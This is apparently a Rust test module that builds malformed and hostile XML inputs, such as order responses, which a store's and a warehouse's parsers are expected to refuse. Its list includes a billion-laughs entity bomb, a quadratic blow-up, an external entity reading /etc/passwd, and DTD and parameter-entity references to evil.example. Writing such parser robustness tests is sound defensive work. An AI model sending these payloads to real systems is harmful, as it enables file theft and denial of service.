//! XML that hurts.

use super::{MIB, Maker};

/// Each is refused, by the store's readers and by the warehouses'.
#[rustfmt::skip]
pub(super) const REFUSED: &[Maker] = &[
    ("nothing", Vec::new),
    ("a billion laughs", laughs),
    ("a quadratic blow-up", quadratic),
    ("an external entity", || b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Response success=\"true\">&x;</Response>".to_vec()),
    ("an external document type", || b"<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><Response success=\"true\"/>".to_vec()),
    ("a parameter entity", || b"<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/\"> %x;]><Response success=\"true\"/>".to_vec()),
    ("a document type late", || within("<!DOCTYPE r [<!ENTITY x \"y\">]>&x;")),
    ("a document type that never ends", || [b"<!DOCTYPE r [".as_slice(), &b"<!ENTITY a \"b\">".repeat(60_000)].concat()),
    ("100,000 levels", || within(&format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000)))),
    ("100,000 levels, not closed", || "<a>".repeat(100_000).into_bytes()),
    ("100,000 levels in 64 KiB names", || format!("<{}>", "a".repeat(64 * 1024)).repeat(60).into_bytes()),
    ("80,000 attributes", || within(&attributes(80_000))),
    ("80,000 attributes of one name", || within(&format!("<b{}/>", " a=\"\"".repeat(80_000)))),
    ("80,000 bare attributes", || within(&format!("<b{}/>", " a".repeat(80_000)))),
    ("800,000 attributes", || within(&attributes(800_000))),
    ("800,000 namespaces", || within(&format!("<b{}/>", (0..800_000).map(|n| format!(" xmlns:n{n}=\"u\"")).collect::<String>()))),
    ("an attribute of 900 KB, not closed", || within(&format!("<b a=\"{}", "x".repeat(900_000)))),
    ("a tag of 900 KB, not closed", || format!("<{}", "x".repeat(900_000)).into_bytes()),
    ("64 MiB of text", || within(&"x".repeat(64 * MIB))),
    ("64 MiB of blanks", || " ".repeat(64 * MIB).into_bytes()),
    ("64 MiB of NUL", || vec![0; 64 * MIB]),
    ("1 MiB of NUL", || vec![0; MIB]),
    ("64 MiB of <", || vec![b'<'; 64 * MIB]),
    ("1 MiB of <", || vec![b'<'; MIB]),
    ("1 MiB of &", || vec![b'&'; MIB]),
    ("300,000 elements", || within(&"<a/>".repeat(300_000))),
    ("300,000 elements in a list", || [b"<Response success=\"true\"><Orders>".as_slice(), &b"<O>7</O>".repeat(120_000), b"</Orders></Response>"].concat()),
    ("a comment of 900 KB, not closed", || within(&format!("<!--{}", "x".repeat(900_000)))),
    ("a section of 900 KB, not closed", || within(&format!("<![CDATA[{}", "]]".repeat(450_000)))),
    ("an instruction of 900 KB, not closed", || within(&format!("<?{}", "x".repeat(900_000)))),
    ("truncated in a tag", || b"<Response success=\"true\"><OrderInfo><Id>7</I".to_vec()),
    ("truncated in an attribute", || b"<Response succ".to_vec()),
    ("truncated in a value", || b"<Response success=\"tr".to_vec()),
    ("truncated in a text", || b"<Response success=\"true\"><OrderInfo><Comments>mark@q7.example".to_vec()),
    ("truncated in a reference", || b"<Response success=\"true\"><OrderInfo><Comments>&am".to_vec()),
    ("truncated in a section", || b"<Response success=\"true\"><![CDATA[x]]".to_vec()),
    ("truncated in a comment", || b"<Response success=\"true\"><!-- x --".to_vec()),
    ("truncated before the last tag", || b"<Response success=\"true\"><OrderInfo></OrderInfo>".to_vec()),
    ("tags that cross", || b"<Response success=\"true\"><a><b></a></b></Response>".to_vec()),
    ("invalid UTF-8", || within_bytes(b"a\xffb")),
    ("an overlong NUL", || within_bytes(b"\xc0\x80")),
    ("a lone surrogate", || within_bytes(b"\xed\xa0\x80")),
    ("UTF-16 with its mark", || [0xfeff].into_iter().chain(text().encode_utf16()).flat_map(u16::to_le_bytes).collect()),
    ("UTF-16, big end first", || text().encode_utf16().flat_map(u16::to_be_bytes).collect()),
    ("UTF-32", || text().chars().flat_map(|c| u32::from(c).to_le_bytes()).collect()),
    ("ISO-8859-1", || within_bytes(b"M\xfcnchen")),
    ("EBCDIC", || vec![0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40]),
    ("gzip", || vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b]),
    ("a web page", || b"<!DOCTYPE html><html><body>mark@q7.example</body></html>".to_vec()),
    ("JSON", || b"{\"email\":\"mark@q7.example\"}".to_vec()),
    ("two documents", || [text().as_bytes(), text().as_bytes()].concat()),
    ("text behind the end", || format!("{}mark@q7.example", text()).into_bytes()),
];

/// Orders that cannot be kept.
#[rustfmt::skip]
pub(super) const ORDERS: &[Maker] = &[
    ("an order of 300 KiB of text", || order_of(&format!("<ProductName>{}</ProductName>", "x".repeat(60 * 1024)), 5)),
    ("an order of 6,000 lines of long names", || order_of(&format!("<ProductName>{}</ProductName>", "x".repeat(50)), 6_000)),
    ("6,000 addresses", || format!("<Response success=\"true\">{}</Response>", (0..6_000).map(|n| format!("<OrderShippingProfileInfo><Zip>{n}</Zip></OrderShippingProfileInfo>")).collect::<String>()).into_bytes()),
    ("5,000 lines of one id", || order_of("<Id>7</Id>", 5_000)),
];

fn order_of(inside: &str, lines: usize) -> Vec<u8> {
    let line = format!("<LineItemInfo><Quantity>1</Quantity>{inside}</LineItemInfo>");
    format!(
        "<Response success=\"true\"><OrderInfo><Id>7</Id><LineItems>{}</LineItems></OrderInfo></Response>",
        line.repeat(lines)
    )
    .into_bytes()
}

fn text() -> &'static str {
    "<Response success=\"true\"><OrderInfo><Id>7</Id></OrderInfo></Response>"
}

/// Inside the comment of an order, or of whatever.
fn within(inside: &str) -> Vec<u8> {
    within_bytes(inside.as_bytes())
}

fn within_bytes(inside: &[u8]) -> Vec<u8> {
    let before =
        b"<Response success=\"true\"><OrderInfo><Id>7</Id><LineItems><LineItemInfo><Quantity>1</Quantity>\
        </LineItemInfo></LineItems><Comments>";
    [before.as_slice(), inside, b"</Comments></OrderInfo></Response>"].concat()
}

fn laughs() -> Vec<u8> {
    let mut document = String::from("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
    for level in 1..10 {
        document.push_str(&format!("<!ENTITY lol{level} \"{}\">", format!("&lol{};", level - 1).repeat(10)));
    }
    document.push_str("]><Response success=\"true\"><OrderInfo><Id>7</Id><Comments>&lol9;</Comments></OrderInfo></Response>");
    document.into_bytes()
}

fn quadratic() -> Vec<u8> {
    let (long, many) = ("a".repeat(100_000), "&a;".repeat(100_000));
    format!("<!DOCTYPE r [<!ENTITY a \"{long}\">]><Response success=\"true\">{many}</Response>").into_bytes()
}

fn attributes(count: usize) -> String {
    let attributes: String = (0..count).map(|n| format!(" a{n}=\"\"")).collect();
    format!("<b{attributes}/>")
}

pub(super) fn longest_comment() -> Vec<u8> {
    within(&"x".repeat(64 * 1024))
}

pub(super) fn dressed_up() -> Vec<u8> {
    let document = within("<!-- a --><![CDATA[<b>]]>&lt;&#233;&#x1f600;&nbsp;&unknown; & <i>x</i>");
    [b"\xef\xbb\xbf<?xml version=\"1.0\" encoding=\"utf-16\"?>\r\n".as_slice(), &document, b"\n"].concat()
}

pub(super) fn thousand_shipments() -> Vec<u8> {
    let one = |n| {
        format!(
            "<Shipment id='{n}'><OrderRef>main-{n}</OrderRef><Carrier>UPS</Carrier><Tracking><Number>1Z{n}</Number></Tracking>\
             <ShippedAt>2026-11-23T10:00:00</ShippedAt><Items><Item sku='A' qty='1'/><Item sku='B' qty='2'/></Items></Shipment>"
        )
    };
    format!("feed 200\n<Shipments>{}</Shipments>", (0..1000).map(one).collect::<String>()).into_bytes()
}
